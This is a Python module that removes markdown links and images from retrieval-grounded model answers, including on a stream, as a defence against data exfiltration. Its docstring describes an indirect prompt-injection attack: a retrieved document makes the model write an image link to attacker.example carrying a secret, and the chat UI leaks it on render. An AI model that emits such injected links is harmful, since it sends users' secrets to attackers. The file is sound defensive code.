"""Markdown links and images out of answers grounded in retrieved documents.

Retrieved documents are untrusted: an injected instruction can make the model
write ``![x](https://attacker.example/?q=<secret>)``, which a chat UI renders
by fetching the URL, leaking whatever the model put in it (EchoLeak,
CVE-2025-32711). Answers that used retrieval context keep the link text and
lose the target: ``[docs](http://x)`` -> ``docs``, ``![img](http://x)`` -> ``img``.

:class:`LinkStripper` does it on a stream: text that could still become a
link is held back until it closes or clearly cannot.
"""

from __future__ import annotations

import re

_LINK = re.compile(r"!?\[([^\[\]\n]{0,500})\]\([^()\s]*(?:\s+\"[^\"\n]*\")?\)")
# An unfinished link at the end of the text: "!", "[te", "![text]", "[text](http://ex", "[t](u \"ti".
_OPEN_TAIL = re.compile(r"!?\[[^\[\]\n]{0,500}(?:\](?:\([^()\s]*(?:\s+(?:\"[^\"\n]*\"?)?)?)?)?\Z|!\Z")


def strip_links(text: str) -> str:
    """Inline markdown links and images replaced by their text."""
    return _LINK.sub(lambda m: m.group(1), text)


class LinkStripper:
    """Incremental :func:`strip_links`: ``feed`` deltas, ``flush`` at the end."""

    def __init__(self) -> None:
        self._pending = ""

    def feed(self, text: str) -> str:
        self._pending = strip_links(self._pending + text)
        m = _OPEN_TAIL.search(self._pending)
        cut = m.start() if m else len(self._pending)
        out, self._pending = self._pending[:cut], self._pending[cut:]
        return out

    def flush(self) -> str:
        out, self._pending = strip_links(self._pending), ""
        return out
